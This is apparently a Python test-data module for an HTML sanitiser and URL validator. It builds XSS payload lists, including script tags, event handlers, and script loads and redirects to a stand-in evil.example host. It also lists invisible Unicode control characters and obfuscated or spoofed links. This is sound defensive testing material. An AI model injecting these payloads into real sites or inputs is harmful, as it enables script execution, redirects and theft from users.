"""Texts that try to become markup, and addresses that try to become something else."""

from __future__ import annotations

from itertools import product

# What ends the place where a text may stand: an attribute, a comment, a raw element, ours.
_BREAKERS = (
    "",
    '"',
    "'",
    "`",
    '\\"',
    '">',
    "'>",
    "/>",
    "-->",
    "]]>",
    "</title>",
    "</textarea>",
    "</style>",
    "</mark>",
    "</script>",
    "</svg>",
    "&quot;>",
)
# What would do harm there.
_HARM = (
    "<script>alert(1)</script>",
    "<script src=//evil.example/a.js></script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><a xlink:href=javascript:alert(1)>x</a></math>",
    " onmouseover=alert(1) autofocus onfocus=alert(1) x=",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<form action=//evil.example><button>ok</button></form>",
    "<style>*{background:url(//evil.example)}</style>",
    "<mark onclick=alert(1)>harbour</mark>",
    "<a href=javascript:alert(1)>harbour</a>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)",
    "\uff1cscript\uff1ealert(1)",
    "{{7*7}}{% raw %}${7*7}",
)
PAYLOADS = tuple(breaker + harm for breaker, harm in product(_BREAKERS, _HARM))

# What turns, hides or breaks the text around it.
UNSEEN = tuple(
    map(
        chr,
        (
            *(0x00, 0x07, 0x08, 0x0B, 0x1B, 0x7F, 0x85, 0x9B, 0x200B, 0x2028, 0x2029),
            *range(0x202A, 0x202F),
            *range(0x2066, 0x206A),
            *(0x2060, 0x2063, 0xFEFF, 0xFFF9, 0xFFFB, 0xE0001, 0xE0041, 0xE007F),
        ),
    )
)

_SCHEMES = ("javascript", "JaVaScRiPt", "data", "vbscript", "file", "blob", "about", "view-source")
_TARGETS = ("alert(1)", "//evil.example/%0aalert(1)", "text/html,<script>alert(1)</script>")
BAD_LINKS = (
    *(f"{scheme}:{target}" for scheme, target in product(_SCHEMES, _TARGETS)),
    *(
        f"java{blank}script:alert(1)"
        for blank in ("\t", "\n", "\r", "\x00", "\u200b", "\\", "&#9;")
    ),
    *(f"{blank}javascript:alert(1)" for blank in (" ", "\t", "\n", "\x01", "\u3000", "\ufeff")),
    *(
        "//evil.example",
        "///evil.example",
        "/\\evil.example",
        "\\\\evil.example",
        "\\/evil.example",
    ),
    *(
        "https:evil.example",
        "https:/evil.example",
        "https:\\\\evil.example",
        "http:///evil.example",
    ),
    *(
        "https://",
        "https://:80",
        "https://[::1",
        "https://evil.example:99999",
        "ht tps://a.example",
    ),
    *("https://good.example@evil.example", "https://good.example\\@evil.example", "https://a\nb"),
    *(
        "https://good.example\\.evil.example",
        "https://good\u202e.example",
        "https://a.example\u2028",
    ),
    *(
        "mailto:a@b.example",
        "ftp://a.example",
        "?q=1",
        "#x",
        "a.example",
        "https//a.example",
        "://",
    ),
    *("http:javascript:alert(1)", "httpx://a.example", "https://\tevil.example", "feed:https://a"),
)
GOOD_LINKS = (
    "https://news.example/1?a=b&c=d#e",
    "HTTP://news.example:8080/x",
    "https://news.example/経済/%22%3E",
    'https://news.example/"><script>alert(1)</script>',
    "https://[2001:db8::1]/x",
    "https://xn--fsq.example/'onclick='alert(1)",
)
